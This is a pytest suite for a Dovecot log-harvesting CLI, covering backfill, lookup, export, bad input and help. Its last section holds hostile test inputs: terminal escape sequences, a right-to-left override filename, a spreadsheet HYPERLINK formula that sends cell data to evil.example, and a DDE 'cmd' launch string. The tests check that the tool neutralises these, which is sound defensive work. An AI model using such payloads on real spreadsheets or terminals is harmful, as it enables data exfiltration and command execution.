"""The command line as an operator meets it: backfill the real samples, look up, export, bad input, help."""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
from pathlib import Path

import pytest

from harvester import cli

SAMPLES = Path(__file__).resolve().parent.parent.parent / "shared" / "samples" / "dovecot-2.3.19"
SAMPLE_LOGS = ("logpath-default.log", "logpath-usecs.log", "syslog-rfc3339.log", "syslog-traditional.log")

LOGIN = "Nov 22 01:53:{s:02d} vm dovecot: imap-login: Login: user=<{user}>, method=PLAIN, rip=192.0.2.{ip}, " \
        "lip=10.0.0.1, mpid={pid}, session=<abc>\n"


def login(user: str, i: int = 1) -> bytes:
    return LOGIN.format(s=i % 60, user=user, ip=i % 250 + 1, pid=1000 + i).encode()


@pytest.fixture
def url(tmp_path) -> str:
    return "sqlite:///" + str(tmp_path / "store" / "h.db")


def backfill(url: str, *paths: Path | str) -> int:
    return cli.main(["backfill", "--store", url, "--timezone", "UTC", "--year", "2026", "--workers", "1",
                     *map(str, paths)])


@pytest.fixture
def samples_url(url, capsys) -> str:
    """A store filled from the four real Dovecot 2.3.19 sample logs."""
    assert SAMPLES.is_dir(), f"{SAMPLES} is missing"
    assert backfill(url, *(SAMPLES / name for name in SAMPLE_LOGS)) == 0
    capsys.readouterr()
    return url


def exported_users(url: str, capsys) -> set[str]:
    capsys.readouterr()
    assert cli.main(["export", "--store", url]) == 0
    return {json.loads(line)["user"] for line in capsys.readouterr().out.splitlines()}


def test_backfill_of_the_real_samples_exits_0_and_reports_rows_written(url, capsys):
    assert backfill(url, *(SAMPLES / name for name in SAMPLE_LOGS)) == 0
    err = capsys.readouterr().err
    assert "files: 4 read, 0 with problems" in err
    assert "rows written: 11 to " + url in err  # 8 last-login rows + 3 other events
    assert "Traceback" not in err


def test_lookup_shows_pop3_and_lmtp_rows_with_client_and_mta_ips(samples_url, capsys):
    assert cli.main(["lookup", "--store", samples_url, "--timezone", "UTC", "test2"]) == 0
    out = capsys.readouterr().out
    lines = out.splitlines()
    pop3 = next(line for line in lines if line.startswith("pop3 "))
    lmtp = next(line for line in lines if line.startswith("lmtp "))
    assert "127.0.0.4" in pop3 and "2026-11-22T01:52:05.273967Z" in pop3
    assert "127.0.0.9" in lmtp and "2026-11-22T01:52:03.223058Z" in lmtp
    assert lines.index(pop3) < lines.index(lmtp)  # newest first
    assert "POP3 deletion" in out and "deleted=1 messages=2" in out  # kept apart from the logins


def test_lookup_json_lists_the_rows_newest_first(samples_url, capsys):
    assert cli.main(["lookup", "--store", samples_url, "--json", "test2"]) == 0
    rows = json.loads(capsys.readouterr().out)
    logins = [(r["service"], r["ip"], r["last_login"]) for r in rows if r["kind"] == "login"]
    assert logins == [("pop3", "127.0.0.4", "2026-11-22T01:52:05.273967Z"),
                      ("lmtp", "127.0.0.9", "2026-11-22T01:52:03.223058Z")]
    (deletion,) = [r for r in rows if r["kind"] != "login"]
    assert deletion["kind"] == "pop3_delete" and deletion["detail"] == "deleted=1 messages=2"


def test_export_jsonl_lines_have_exactly_the_documented_keys_and_utc_times(samples_url, capsys):
    assert cli.main(["export", "--store", samples_url, "--format", "jsonl"]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert len(rows) == 8  # the last_login plugin's reference answer has 8 keys too
    for r in rows:
        assert set(r) == {"user", "service", "last_login", "ip", "node"}
        assert r["last_login"].endswith("Z")
    assert {(r["user"], r["service"], r["ip"]) for r in rows} >= {
        ("test1", "imap", "127.0.0.2"), ("jane.doe@example.com", "imap", "::1"), ("test2", "lmtp", "127.0.0.9")}


def test_export_csv_starts_with_a_header_row(samples_url, capsys):
    assert cli.main(["export", "--store", samples_url, "--format", "csv"]) == 0
    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert table[0] == ["user", "service", "last_login", "ip", "node"]
    assert len(table) == 1 + 8
    assert ["test1", "imap", "2026-11-22T01:52:03.242533Z", "127.0.0.2", "vm"] in table


def test_running_the_same_backfill_twice_changes_nothing(samples_url, capsys):
    assert cli.main(["export", "--store", samples_url]) == 0
    before = capsys.readouterr().out
    assert backfill(samples_url, *(SAMPLES / name for name in SAMPLE_LOGS)) == 0
    capsys.readouterr()
    assert cli.main(["export", "--store", samples_url]) == 0
    assert capsys.readouterr().out == before


def test_missing_file_is_named_exits_1_and_the_good_file_is_still_stored(tmp_path, url, capsys):
    good = tmp_path / "maillog"
    good.write_bytes(login("alice"))
    missing = tmp_path / "maillog.1"
    assert backfill(url, missing, good) == 1
    err = capsys.readouterr().err
    assert f"{missing}: no such file" in err and "Traceback" not in err
    assert exported_users(url, capsys) == {"alice"}


def test_truncated_gzip_is_reported_and_the_lines_before_the_damage_are_stored(tmp_path, url, capsys):
    body = b"".join(login(f"user{i}", i) for i in range(5000))
    data = gzip.compress(body)
    damaged = tmp_path / "maillog.1.gz"
    damaged.write_bytes(data[: len(data) * 2 // 3])
    live = tmp_path / "maillog"
    live.write_bytes(login("alice"))
    assert backfill(url, live, damaged) == 1
    err = capsys.readouterr().err
    assert str(damaged) in err and "truncated" in err and "Traceback" not in err
    users = exported_users(url, capsys)
    assert {"user0", "user100", "alice"} <= users  # early lines of the damaged file, and the other file
    assert "user4999" not in users  # the lost tail is not invented


def test_binary_garbage_file_is_skipped_and_named_without_a_traceback(tmp_path, url, capsys):
    junk = tmp_path / "maillog.2"
    junk.write_bytes(random.Random(0).randbytes(50_000))
    good = tmp_path / "maillog"
    good.write_bytes(login("alice"))
    assert backfill(url, junk, good) == 1
    err = capsys.readouterr().err
    assert f"{junk}: no line in a known format" in err and "Traceback" not in err
    assert exported_users(url, capsys) == {"alice"}


def test_top_level_help_exits_0_and_shows_example_commands(capsys):
    with pytest.raises(SystemExit) as e:
        cli.main(["--help"])
    assert e.value.code == 0
    out = capsys.readouterr().out
    assert "harvester backfill /var/log/mail.log" in out and "harvester lookup " in out


def test_backfill_help_exits_0_and_shows_examples(capsys):
    with pytest.raises(SystemExit) as e:
        cli.main(["backfill", "--help"])
    assert e.value.code == 0
    out = capsys.readouterr().out
    assert "examples:" in out and "harvester backfill /var/log/mail.log" in out


def test_lookup_of_an_unknown_user_exits_1(samples_url, capsys):
    assert cli.main(["lookup", "--store", samples_url, "nobody@example.com"]) == 1
    assert "nobody@example.com: no login recorded" in capsys.readouterr().out
    assert cli.main(["lookup", "--store", samples_url, "--json", "nobody@example.com"]) == 1
    assert json.loads(capsys.readouterr().out) == []


def test_lookup_without_a_store_exits_2_and_says_to_backfill_first(url, capsys):
    assert cli.main(["lookup", "--store", url, "test2"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("harvester: ") and "run 'harvester backfill' first" in err
    assert not Path(url[len("sqlite:///"):]).exists()  # a lookup must not create an empty store


def test_no_command_prints_help_and_exits_2(capsys):
    assert cli.main([]) == 2
    assert "usage: harvester" in capsys.readouterr().out


# --- Hostile content from log lines reaching people (issue 13, item 12) ---------------------------
HOSTILE = ("clear\x1b[2Jscreen", "csi\x9b31mred", "bell\x07ring", "evil\u202egpj.exe", "zoë@exämple.de")
HOSTILE_LINE = "Nov 22 01:54:{s:02d} mx\x1b]0;owned\x07 dovecot: imap-login: Login: user=<{user}>, " \
               "method=PLAIN\x9b1m, rip=192.0.2.{s}, lip=10.0.0.1, mpid=20{s}, session=<s\x1b[5m{s}>\n"


def raw_controls(text: str) -> set[str]:
    """Characters a terminal or spreadsheet would act on (line ends aside)."""
    return {c for c in text if not c.isprintable() and c not in "\n\r"}


@pytest.fixture
def hostile_log(tmp_path) -> Path:
    f = tmp_path / "hostile.log"
    f.write_bytes("".join(HOSTILE_LINE.format(s=i + 1, user=u) for i, u in enumerate(HOSTILE)).encode())
    return f


def test_hostile_user_and_host_names_reach_no_terminal_raw(hostile_log, url, capsys):
    assert backfill(url, hostile_log) == 0
    capsys.readouterr()
    for user in HOSTILE:
        for args in (["lookup", "--store", url, user], ["lookup", "--json", "--store", url, user]):
            assert cli.main(args) == 0
            out = capsys.readouterr().out
            assert not raw_controls(out), (args, out)
    assert cli.main(["lookup", "--store", url, "zoë@exämple.de"]) == 0
    assert "zoë@exämple.de" in capsys.readouterr().out  # other non-ASCII stays readable
    assert cli.main(["export", "--store", url, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert not raw_controls(out) and "clear\\x1b[2Jscreen" in out and "zoë@exämple.de" in out
    assert cli.main(["export", "--store", url]) == 0
    out = capsys.readouterr().out
    assert not raw_controls(out)
    rows = [json.loads(line) for line in out.splitlines()]
    assert {r["user"] for r in rows} == set(HOSTILE)  # the store and the JSON keep the names verbatim
    assert "zoë@exämple.de" in out
    assert cli.main(["test-patterns", "--timezone", "UTC", "--year", "2026", str(hostile_log)]) == 0
    out = capsys.readouterr().out
    assert "events:  5" in out and not raw_controls(out), out


def test_csv_cells_that_start_with_a_formula_are_neutralised(tmp_path, url, capsys):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    f = tmp_path / "maillog"
    f.write_bytes(b"".join(login(u, i) for i, u in enumerate([*formulas, "plain@example.org"])))
    assert backfill(url, f) == 0
    capsys.readouterr()
    assert cli.main(["export", "--store", url, "--format", "csv"]) == 0
    cells = {row[0] for row in csv.reader(io.StringIO(capsys.readouterr().out))}
    assert cells == {"user", "plain@example.org", *("'" + u for u in formulas)}


def test_log_lines_escape_control_characters_in_text_and_json(tmp_path, url, capsys):
    named = tmp_path / "mail\x9b2J\x1b]0;title\x07.log"  # a path the log names
    for fmt in ("text", "json"):
        assert cli.main(["backfill", "--store", url, "--log-format", fmt, "--workers", "1", str(named)]) == 1
        err = capsys.readouterr().err
        assert "no such file" in err and not raw_controls(err), err
        if fmt == "json":
            messages = [json.loads(line)["message"] for line in err.splitlines() if line.startswith("{")]
            assert any(str(named) in m for m in messages)  # the JSON still carries the exact name
